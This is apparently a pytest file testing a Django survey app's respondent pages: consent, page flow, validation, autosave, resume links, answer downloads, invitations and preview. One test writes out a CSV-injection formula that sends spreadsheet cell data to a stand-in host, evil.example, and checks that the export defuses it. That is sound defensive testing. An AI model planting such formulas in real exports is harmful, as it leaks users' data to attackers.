"""The respondent's web pages under ``/surveys/``, walked with the SAMPLE survey."""

import csv
import datetime as dt
import io
import json
import re

import pytest
from django.test import Client
from django.utils import timezone, translation

from surveys.models import Response, Survey
from surveys.services import (
    invitations_create,
    resume_token_for,
    survey_publish,
    survey_update,
)
from tests.accounts.factories import UserFactory
from tests.surveys.sample_definition import COMPLETE_ANSWERS, opts, sample, t

pytestmark = pytest.mark.django_db

LIST_URL = "/surveys/"
LANDING_URL = "/surveys/sample/"
THANKS_URL = "/surveys/sample/thanks/"
SAVED_URL = "/surveys/sample/saved/"

# The form data of each page that gives COMPLETE_ANSWERS.
ABOUT = {
    "role": "engineer",
    "experience": "1to3",
    "years": "4",
    "started": "2021-03-01",
    "remote": "true",
}
TOOLS = {
    "tools": ["mlflow", "dvc"],
    "mlflow_rating": "4",
    "tool_matrix.mlflow": "present",
    "tool_matrix.dvc": "partial",
    "stages.1": "training",
    "stages.2": "data",
}
FINAL = {"nickname": "ana", "comments": "Nothing else."}
# What the draft holds after the first page is sent without its role.
ABOUT_BUT_ROLE = {
    "experience": "1to3",
    "years": 4,
    "started": "2021-03-01",
    "remote": True,
}


@pytest.fixture(autouse=True)
def _english():
    """Requests activate their language in the thread: restore English after."""
    with translation.override("en"):
        yield


def page_url(code: str) -> str:
    return f"/surveys/sample/p/{code}/"


def open_survey(researcher, **changes) -> Survey:
    version = survey_publish(document=sample(**changes), actor=researcher)
    return survey_update(survey=version.survey, actor=researcher, status="open")


@pytest.fixture
def survey(researcher) -> Survey:
    return open_survey(researcher, thank_you={"en": "Thanks a lot!", "pt-br": "Valeu!"})


def nonce_of(html: str) -> str:
    return re.search(r'name="nonce" value="([^"]+)"', html).group(1)


def start(client: Client, url: str = LANDING_URL, slug: str = "sample") -> Response:
    nonce = nonce_of(client.get(url).content.decode())
    answer = client.post(url, {"nonce": nonce, "consent": "yes"})
    assert answer.status_code == 302, answer.content.decode()[:2000]
    return Response.objects.get(pk=held_response_id(client, slug))


def held_response_id(client: Client, slug: str = "sample"):
    token = client.session["survey_responses"][slug]
    return next(r.pk for r in Response.objects.all() if resume_token_for(r.pk) == token)


def post(client: Client, code: str, data: dict, action: str = "next"):
    return client.post(page_url(code), {**data, "action": action})


def resume_url_of(response: Response) -> str:
    return f"/surveys/sample/resume/{resume_token_for(response.pk)}/"


def html_of(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def field_html(html: str, code: str) -> str:
    """The markup of one question, from its container to the next one."""
    match = re.search(
        rf'<div class="question[^"]*" id="q-{code}".*?(?=<div class="question|<div class="survey-nav)',
        html,
        re.S,
    )
    assert match, f"question {code} is not on the page"
    return match.group(0)


# --- List and landing ---------------------------------------------------------


def test_list_shows_open_public_surveys_with_time_and_link(client, survey, researcher):
    other = survey_publish(document=sample(slug="drafted"), actor=researcher).survey
    invited = open_survey(researcher, slug="invited")
    survey_update(survey=invited, actor=researcher, access="invitation")

    html = html_of(client.get(LIST_URL))

    assert "Sample survey" in html
    assert "A survey with every question type." in html
    assert "About 5 minutes" in html
    assert f'href="{LANDING_URL}"' in html
    assert f"/surveys/{other.slug}/" not in html
    assert "/surveys/invited/" not in html


def test_landing_explains_the_survey_and_asks_for_consent(client, survey):
    html = html_of(client.get(LANDING_URL))

    assert "<h1>Sample survey</h1>" in html
    assert "It takes about 5 minutes." in html
    assert "I agree to take part." in html
    assert 'type="checkbox" name="consent" value="yes" required' in html
    assert "Start the survey" in html


def test_starting_without_consent_shows_the_error_and_creates_nothing(client, survey):
    nonce = nonce_of(client.get(LANDING_URL).content.decode())

    html = html_of(client.post(LANDING_URL, {"nonce": nonce}))

    assert 'id="consent-error"' in html
    assert "Tick the box to agree before you start." in html
    assert 'aria-invalid="true"' in html
    assert Response.objects.count() == 0


def test_start_creates_a_response_and_goes_to_the_first_page(client, survey):
    nonce = nonce_of(client.get(LANDING_URL).content.decode())

    answer = client.post(LANDING_URL, {"nonce": nonce, "consent": "yes"})

    assert answer.status_code == 302
    assert answer["Location"] == page_url("about")
    response = Response.objects.get()
    assert response.status == Response.Status.DRAFT
    assert response.channel == Response.Channel.WEB
    assert response.idempotency_key == nonce
    assert client.session["survey_responses"] == {
        "sample": resume_token_for(response.pk)
    }


def test_posting_the_start_form_twice_creates_one_response(client, survey):
    nonce = nonce_of(client.get(LANDING_URL).content.decode())
    data = {"nonce": nonce, "consent": "yes"}

    first = client.post(LANDING_URL, data)
    second = client.post(LANDING_URL, data)
    # Even a request that does not carry the session gets the same response.
    third = Client().post(LANDING_URL, data)

    assert first.status_code == second.status_code == third.status_code == 302
    assert Response.objects.count() == 1


def test_two_tabs_started_in_one_session_share_one_response(client, survey):
    first_tab = nonce_of(client.get(LANDING_URL).content.decode())
    second_tab = nonce_of(client.get(LANDING_URL).content.decode())
    assert first_tab != second_tab

    client.post(LANDING_URL, {"nonce": first_tab, "consent": "yes"})
    client.post(LANDING_URL, {"nonce": second_tab, "consent": "yes"})

    assert Response.objects.count() == 1


def test_landing_offers_to_continue_a_draft(client, survey):
    start(client)
    post(client, "about", ABOUT)

    html = html_of(client.get(LANDING_URL))

    assert "Continue where you left off" in html
    assert f'href="{page_url("tools")}"' in html
    assert 'name="nonce"' not in html


def test_page_without_a_response_in_the_session_goes_to_the_landing(client, survey):
    answer = client.get(page_url("about"))

    assert answer.status_code == 302
    assert answer["Location"] == LANDING_URL


# --- Pages ----------------------------------------------------------------------


def test_first_page_renders_every_question_type_with_labels(client, survey):
    start(client)

    html = html_of(client.get(page_url("about")))

    assert "<h1>About you</h1>" in html
    # The last page shows unless "experience" (on this page) says otherwise.
    assert "Page 1 of about 3" in html
    assert '<progress value="1" max="3"' in html
    role = field_html(html, "role")
    assert "<fieldset" in role and "<legend>Role" in role
    assert '<span class="required">(required)</span>' in role
    assert 'type="radio" id="f-role-0" name="role" value="scientist"' in role
    assert 'name="role__other"' in role
    assert 'type="number" id="f-years" name="years"' in html
    assert 'min="0"' in field_html(html, "years")
    assert 'type="date" id="f-started" name="started"' in html
    assert 'value="true"' in field_html(html, "remote")
    assert '<label for="f-years">' in html
    # The first page has no Back button; the resume link is offered.
    assert 'value="back"' not in html
    assert 'value="save"' in html
    assert '<details class="resume-link">' in html


def test_walking_through_every_page_submits_the_answers(client, survey):
    start(client)

    assert post(client, "about", ABOUT)["Location"] == page_url("tools")
    tools = html_of(client.get(page_url("tools")))
    assert "Page 2 of 3" in tools
    assert post(client, "tools", TOOLS)["Location"] == page_url("final")
    final = html_of(client.get(page_url("final")))
    assert 'value="submit"' in final
    assert post(client, "final", FINAL, action="submit")["Location"] == THANKS_URL

    response = Response.objects.get()
    assert response.status == Response.Status.SUBMITTED
    assert response.answers == COMPLETE_ANSWERS
    assert response.language == "en"


def test_tools_page_renders_the_same_page_conditions_for_the_script(client, survey):
    start(client)
    post(client, "about", ABOUT)

    html = html_of(client.get(page_url("tools")))

    rating = field_html(html, "mlflow_rating")
    assert "data-condition=" in rating
    assert "&quot;op&quot;:&quot;contains&quot;" in rating
    matrix = field_html(html, "tool_matrix")
    assert 'data-rows-from="tools"' in matrix
    # Without the script every row shows; the server keeps the picked ones.
    for tool in ("mlflow", "dvc", "kubeflow"):
        assert f'name="tool_matrix.{tool}"' in matrix
    # Each row is its own group of labelled options: nothing to scroll sideways.
    assert '<fieldset class="matrix-row" data-row="mlflow">' in matrix
    assert '<legend id="r-tool_matrix-mlflow">Mlflow</legend>' in matrix
    assert '<select id="f-stages-1" name="stages.1"' in html
    assert "1st choice" in html and "2nd choice" in html
    assert "js/survey.js" in html


def test_matrix_rows_of_unpicked_choices_are_dropped(client, survey):
    start(client)
    post(client, "about", ABOUT)

    answer = post(client, "tools", {**TOOLS, "tool_matrix.kubeflow": "absent"})

    assert answer.status_code == 302
    assert Response.objects.get().answers["tool_matrix"] == {
        "mlflow": "present",
        "dvc": "partial",
    }


def test_a_missing_required_answer_is_shown_next_to_its_field(client, survey):
    response = start(client)
    data = {key: value for key, value in ABOUT.items() if key != "role"}

    html = html_of(post(client, "about", data))

    role = field_html(html, "role")
    assert 'id="e-role"' in role
    assert "This question is required." in role
    assert 'aria-describedby="e-role"' in role
    assert 'aria-invalid="true"' in role
    assert 'role="alert"' in html
    assert '<a href="#f-role-0">Role: This question is required.</a>' in html
    # Nothing is lost: every other answer is shown again, and saved to the draft.
    assert 'value="4"' in field_html(html, "years")
    assert 'value="2021-03-01"' in field_html(html, "started")
    assert 'value="1to3" checked' in field_html(html, "experience")
    assert 'value="true" checked' in field_html(html, "remote")
    response.refresh_from_db()
    assert response.answers == ABOUT_BUT_ROLE
    assert response.current_page == "about"


def test_an_unparsable_number_is_reported_and_shown_again(client, survey):
    start(client)

    html = html_of(post(client, "about", {**ABOUT, "years": "four"}))

    years = field_html(html, "years")
    assert "Enter a number." in years
    assert 'value="four"' in years


def test_other_without_its_text_points_to_the_text_input(client, survey):
    start(client)

    html = html_of(post(client, "about", {**ABOUT, "role": "other"}))

    assert 'Describe "other".' in html.replace("&quot;", '"')
    assert '<a href="#f-role__other">' in html
    assert 'aria-describedby="e-role__other"' in html


def test_back_keeps_the_answers_without_requiring_them(client, survey):
    response = start(client)
    post(client, "about", ABOUT)

    answer = post(client, "tools", {"tools": ["dvc"]}, action="back")

    assert answer["Location"] == page_url("about")
    response.refresh_from_db()
    assert response.answers["tools"] == ["dvc"]
    assert response.current_page == "about"
    html = html_of(client.get(page_url("tools")))
    assert 'value="dvc" checked' in field_html(html, "tools")


def test_save_shows_the_resume_link_that_works_in_a_fresh_browser(client, survey):
    response = start(client)
    post(client, "about", ABOUT)

    answer = post(client, "tools", {"tools": ["mlflow"]}, action="save")

    assert answer["Location"] == SAVED_URL
    html = html_of(client.get(SAVED_URL))
    resume_url = (
        f"http://testserver/surveys/sample/resume/{resume_token_for(response.pk)}/"
    )
    assert f'href="{resume_url}"' in html
    assert "Keep this link" in html

    other = Client()
    opened = other.get(resume_url)
    assert opened["Location"] == page_url("tools")
    tools = html_of(other.get(page_url("tools")))
    assert 'value="mlflow" checked' in field_html(tools, "tools")
    assert f'href="{resume_url}"' in tools


def test_a_wrong_resume_link_is_not_found(client, survey):
    answer = client.get("/surveys/sample/resume/not-a-token/")

    assert answer.status_code == 404
    assert "This link is not valid." in answer.content.decode()


def test_a_page_hidden_by_an_earlier_answer_is_skipped(client, survey):
    start(client)
    post(client, "about", {**ABOUT, "experience": "lt1"})

    tools = html_of(client.get(page_url("tools")))
    assert "Page 2 of 2" in tools
    assert 'value="submit"' in tools
    assert client.get(page_url("final"))["Location"] == page_url("tools")

    answer = post(client, "tools", TOOLS, action="submit")

    assert answer["Location"] == THANKS_URL
    response = Response.objects.get()
    assert response.is_submitted
    assert "nickname" not in response.answers


def test_back_from_a_page_after_a_hidden_one_skips_it(client, survey, researcher):
    start(client)
    post(client, "about", {**ABOUT, "experience": "lt1"})

    answer = post(client, "tools", {}, action="back")

    assert answer["Location"] == page_url("about")


def test_submit_with_a_problem_sends_to_the_first_page_with_it(client, survey):
    start(client)
    post(client, "about", {"experience": "1to3"}, action="save")
    post(client, "tools", TOOLS)

    answer = post(client, "final", FINAL, action="submit")

    assert answer["Location"] == page_url("about") + "?check=1"
    html = html_of(client.get(answer["Location"]))
    assert "Some answers need your attention before you submit" in html
    assert "This question is required." in field_html(html, "role")
    assert Response.objects.get().status == Response.Status.DRAFT


def test_autosave_saves_without_validation(client, survey):
    response = start(client)

    answer = post(client, "about", {"years": "7"}, action="autosave")

    assert answer.status_code == 204
    response.refresh_from_db()
    assert response.answers == {"years": 7}


def test_a_failed_page_saves_its_valid_answers_for_the_resume_link(client, survey):
    response = start(client)
    post(client, "about", {**ABOUT, "role": ""}, action="save")  # years is 4

    # Role missing, years unreadable: the page fails, showing what was typed.
    html = html_of(post(client, "about", {**ABOUT, "role": "", "years": "four"}))
    assert 'value="four"' in field_html(html, "years")

    response.refresh_from_db()
    # The valid answers are kept; the unreadable one leaves the earlier answer.
    assert response.answers == ABOUT_BUT_ROLE
    other = Client()
    assert other.get(resume_url_of(response))["Location"] == page_url("about")
    resumed = html_of(other.get(page_url("about")))
    assert 'value="1to3" checked' in field_html(resumed, "experience")
    assert 'value="4"' in field_html(resumed, "years")
    assert 'value="true" checked' in field_html(resumed, "remote")


def test_a_failed_page_keeps_the_answers_of_other_pages(client, survey):
    response = start(client)
    post(client, "about", ABOUT)

    post(client, "tools", {**TOOLS, "stages.1": "", "stages.2": "", "tools": ["dvc"]})

    response.refresh_from_db()
    assert response.answers["role"] == "engineer"
    assert response.answers["tools"] == ["dvc"]
    assert "stages" not in response.answers
    assert response.current_page == "tools"


def test_autosave_keeps_the_valid_answers_and_reports_the_rest(client, survey):
    response = start(client)

    answer = post(
        client, "about", {"years": "four", "remote": "true"}, action="autosave"
    )

    assert answer.status_code == 422
    response.refresh_from_db()
    assert response.answers == {"remote": True}


def test_progress_counts_down_never_up_and_says_about_while_it_may_drop(client, survey):
    start(client)
    first = html_of(client.get(page_url("about")))
    assert "Page 1 of about 3" in first
    assert '<progress value="1" max="3"' in first

    # "lt1" hides the last page: the count drops, and is now certain.
    post(client, "about", {**ABOUT, "experience": "lt1"})
    tools = html_of(client.get(page_url("tools")))
    assert "Page 2 of 2" in tools
    assert '<progress value="2" max="2"' in tools

    post(client, "tools", {}, action="back")
    post(client, "about", ABOUT)
    tools = html_of(client.get(page_url("tools")))
    assert "Page 2 of 3" in tools


def test_a_question_ending_in_a_question_mark_takes_no_colon_in_the_summary(
    client, researcher
):
    document = sample()
    document["pages"][0]["questions"][0]["text"] = t("What is your role?")
    version = survey_publish(document=document, actor=researcher)
    survey_update(survey=version.survey, actor=researcher, status="open")
    start(client)

    html = html_of(post(client, "about", {**ABOUT, "role": ""}))

    assert (
        '<a href="#f-role-0">What is your role? This question is required.</a>' in html
    )
    assert "?:" not in html


def test_a_submitted_response_goes_to_the_thank_you_page(client, survey):
    walk_to_the_end(client)

    assert client.get(page_url("about"))["Location"] == THANKS_URL
    token = client.session["survey_responses"]["sample"]
    assert Client().get(f"/surveys/sample/resume/{token}/")["Location"] == THANKS_URL


# --- Thanks and downloads -------------------------------------------------------------


def walk_to_the_end(client: Client) -> Response:
    start(client)
    post(client, "about", ABOUT)
    post(client, "tools", TOOLS)
    assert post(client, "final", FINAL, action="submit")["Location"] == THANKS_URL
    return Response.objects.get()


def test_thank_you_page_shows_the_text_and_downloads(client, survey):
    walk_to_the_end(client)

    html = html_of(client.get(THANKS_URL))

    assert "Thanks a lot!" in html
    # The sample survey has no scoring rules: no maturity section at all (the
    # reference survey's is tested in tests/reports/test_profile_views.py).
    assert "Your maturity profile" not in html
    assert "maturity-profile" not in html
    assert 'href="/surveys/sample/my-answers.json"' in html
    assert 'href="/surveys/sample/my-answers.csv"' in html
    assert "/surveys/sample/results/" not in html  # the results are not public


def test_thank_you_page_links_the_public_results(client, survey, researcher):
    survey_update(survey=survey, actor=researcher, public_results=True)
    walk_to_the_end(client)

    html = html_of(client.get(THANKS_URL))

    assert 'href="/surveys/sample/results/"' in html
    assert "See the results so far" in html


def test_download_my_answers_as_json(client, survey):
    response = walk_to_the_end(client)

    answer = client.get("/surveys/sample/my-answers.json")

    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("application/json")
    assert answer["Content-Disposition"] == (
        'attachment; filename="sample-my-answers.json"'
    )
    body = json.loads(answer.content)
    assert body["answers"] == COMPLETE_ANSWERS
    assert body["version"] == 1
    assert body["submitted_at"] == response.submitted_at.isoformat()


def test_download_my_answers_as_csv_in_the_current_language(client, survey):
    walk_to_the_end(client)
    client.post("/i18n/setlang/", {"language": "pt-br", "next": "/"})

    answer = client.get("/surveys/sample/my-answers.csv")

    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    assert "attachment" in answer["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    by_code = {row[0]: row[1:] for row in rows[1:]}
    assert by_code["role"] == ["Role (pt)", "Engineer (pt)"]
    with translation.override("pt-br"):
        assert by_code["remote"] == ["Remote? (pt)", translation.gettext("Yes")]
    assert by_code["stages"][1] == "1. Training (pt); 2. Data (pt)"
    assert (
        by_code["tool_matrix"][1] == "Mlflow (pt): Present (pt); Dvc (pt): Partial (pt)"
    )
    assert by_code["years"][1] == "4"
    assert len(rows) == 1 + len(COMPLETE_ANSWERS)


def test_a_formula_typed_as_an_answer_downloads_as_inert_text(client, survey):
    start(client)
    post(client, "about", ABOUT)
    post(client, "tools", TOOLS)
    formula = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
    post(client, "final", {**FINAL, "comments": formula}, action="submit")

    answer = client.get("/surveys/sample/my-answers.csv")

    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    by_code = {row[0]: row[1:] for row in rows[1:]}
    assert by_code["comments"][1] == "'" + formula


def test_answers_are_downloadable_only_from_the_session_that_holds_them(client, survey):
    walk_to_the_end(client)

    assert Client().get("/surveys/sample/my-answers.json").status_code == 404
    assert Client().get("/surveys/sample/my-answers.csv").status_code == 404
    assert Client().get(THANKS_URL)["Location"] == LANDING_URL


# --- Surveys that are not open ---------------------------------------------------------


def test_a_closed_survey_says_so_with_410(client, survey, researcher):
    survey_update(survey=survey, actor=researcher, status="closed")

    answer = client.get(LANDING_URL)

    assert answer.status_code == 410
    assert "This survey is closed." in answer.content.decode()


def test_a_survey_that_closes_mid_way_shows_why_on_its_pages(
    client, survey, researcher
):
    start(client)
    survey_update(
        survey=survey,
        actor=researcher,
        closes_at=timezone.now() + dt.timedelta(seconds=1),
    )
    Survey.objects.filter(pk=survey.pk).update(
        closes_at=timezone.now() - dt.timedelta(seconds=1)
    )

    answer = client.get(page_url("about"))

    assert answer.status_code == 410
    assert "This survey is closed." in answer.content.decode()


def test_a_survey_not_open_yet_says_so(client, survey, researcher):
    survey_update(
        survey=survey, actor=researcher, opens_at=timezone.now() + dt.timedelta(days=1)
    )

    html = html_of(client.get(LANDING_URL))

    assert "This survey is not open yet." in html
    assert 'name="nonce"' not in html


def test_a_draft_survey_is_not_open_yet(client, researcher):
    survey_publish(document=sample(), actor=researcher)

    html = html_of(client.get(LANDING_URL))

    assert "This survey is not open yet." in html


def test_a_full_survey_says_so(client, survey, researcher):
    survey_update(survey=survey, actor=researcher, response_quota=1)
    walk_to_the_end(Client())

    html = html_of(client.get(LANDING_URL))

    assert "This survey has reached its number of responses." in html


def test_an_unknown_survey_is_not_found(client, db):
    assert client.get("/surveys/nothing-here/").status_code == 404


# --- Invitations ------------------------------------------------------------------------


@pytest.fixture
def invited(survey, researcher) -> str:
    survey_update(survey=survey, actor=researcher, access="invitation")
    [(_invitation, token)] = invitations_create(
        survey=survey, count=1, actor=researcher
    )
    return token


def test_public_landing_of_an_invitation_survey_asks_for_the_invitation(
    client, invited
):
    html = html_of(client.get(LANDING_URL))

    assert "This survey is by invitation only." in html
    assert 'name="nonce"' not in html
    client.post(LANDING_URL, {"nonce": "x", "consent": "yes"})
    assert Response.objects.count() == 0


def test_an_invitation_link_starts_its_response(client, invited):
    url = f"/surveys/sample/invite/{invited}/"

    response = start(client, url)

    assert response.invitation is not None
    assert client.get(page_url("about")).status_code == 200
    assert "Continue where you left off" in html_of(client.get(LANDING_URL))
    # The same link again continues the same response.
    start(Client(), url)
    assert Response.objects.count() == 1


def test_a_used_invitation_says_so(client, invited):
    url = f"/surveys/sample/invite/{invited}/"
    start(client, url)
    post(client, "about", ABOUT)
    post(client, "tools", TOOLS)
    post(client, "final", FINAL, action="submit")

    answer = Client().get(url)

    assert answer.status_code == 409
    assert "already been used" in answer.content.decode()


def test_a_wrong_invitation_is_refused(client, invited):
    answer = client.get("/surveys/sample/invite/wrong-token/")

    assert answer.status_code == 403
    assert "This invitation link is not valid." in answer.content.decode()


# --- Preview -------------------------------------------------------------------------------


def test_preview_needs_a_login(client, survey):
    answer = client.get("/surveys/sample/preview/")

    assert answer.status_code == 302
    assert answer["Location"].startswith("/accounts/login/?next=")


def test_preview_is_refused_to_other_users(client, survey):
    client.force_login(UserFactory(role="researcher"))

    assert client.get("/surveys/sample/preview/").status_code == 403


@pytest.mark.parametrize("who", ["owner", "staff"])
def test_owner_and_staff_preview_any_page_of_any_version(
    client, survey, researcher, staff_user, who
):
    survey_publish(
        document=sample(title={"en": "Second title", "pt-br": "Segundo"}),
        actor=researcher,
    )
    client.force_login(researcher if who == "owner" else staff_user)

    current = html_of(client.get("/surveys/sample/preview/"))
    first = html_of(client.get("/surveys/sample/preview/1/?page=final"))

    assert "Preview: nothing is saved." in current
    assert "Version 2" in current and "Second title" in current
    assert "Version 1" in first and "<h1>Final words</h1>" in first
    assert "Page 3 of 3" in first
    assert 'href="?page=tools"' in first
    assert 'value="save"' not in first
    assert Response.objects.count() == 0
    assert client.get("/surveys/sample/preview/9/").status_code == 404
    assert client.get("/surveys/sample/preview/?page=nope").status_code == 404


# --- Query budget and language ----------------------------------------------------------------


def big_document(questions: int = 60) -> dict:
    """One page of many questions of every simple type, then a last page."""
    kinds = [
        {"type": "single_choice", "choices": opts("a", "b", "c"), "allow_other": True},
        {"type": "multiple_choice", "choices": opts("a", "b", "c")},
        {"type": "likert", "scale": {"min": 1, "max": 5}},
        {"type": "number", "min": 0},
        {"type": "text"},
        {"type": "matrix", "rows": opts("r1", "r2"), "columns": opts("x", "y")},
        {"type": "ranking", "choices": opts("a", "b", "c"), "top_n": 2},
    ]
    page = [
        {"code": f"q{n}", "text": t(f"Question {n}"), **kinds[n % len(kinds)]}
        for n in range(questions)
    ]
    for n in range(1, questions, 5):
        page[n]["condition"] = {"question": f"q{n - 1}", "op": "answered"}
    last = [{"code": "last", "type": "text", "text": t("Last")}]
    return sample(
        slug="big",
        pages=[
            {"code": "many", "title": t("Many"), "questions": page},
            {"code": "end", "title": t("End"), "questions": last},
        ],
    )


@pytest.mark.parametrize("document", ["sample", "big"])
def test_a_page_runs_a_bounded_number_of_queries(
    client, researcher, django_assert_num_queries, document
):
    """Session, response (with survey and version), then the save: the parsed
    definition is cached per version (the pages before parsed it), so the count
    does not grow with questions."""
    if document == "sample":
        open_survey(researcher)
        start(client)
        post(client, "about", ABOUT)
        code, data = "tools", TOOLS
    else:
        big = big_document()
        survey_update(
            survey=survey_publish(document=big, actor=researcher).survey,
            actor=researcher,
            status="open",
        )
        start(client, "/surveys/big/", slug="big")
        code = "many"
        data = {"q0": "a", "q1": ["b"], "q2": "3", "q3": "7", "q4": "hi", "q5.r1": "x"}
    url = f"/surveys/{document}/p/{code}/"

    with django_assert_num_queries(2):
        answer = client.get(url)
    assert answer.status_code == 200
    # The session and the response; then, in a savepoint, the response locked
    # and its UPDATE.
    with django_assert_num_queries(6):
        answer = client.post(url, {**data, "action": "next"})
    assert answer.status_code == 302, answer.content.decode()[:3000]


def test_switching_language_keeps_the_answers(client, survey):
    response = start(client)
    post(client, "about", ABOUT, action="save")

    switched = client.post(
        "/i18n/setlang/", {"language": "pt-br", "next": page_url("about")}
    )

    assert switched["Location"] == page_url("about")
    html = html_of(client.get(page_url("about")))
    assert '<html lang="pt-br">' in html
    assert "Role (pt)" in html
    assert 'value="engineer" checked' in field_html(html, "role")
    assert 'value="4"' in field_html(html, "years")
    post(client, "about", ABOUT)
    response.refresh_from_db()
    assert response.language == "pt-br"
    assert response.answers["role"] == "engineer"
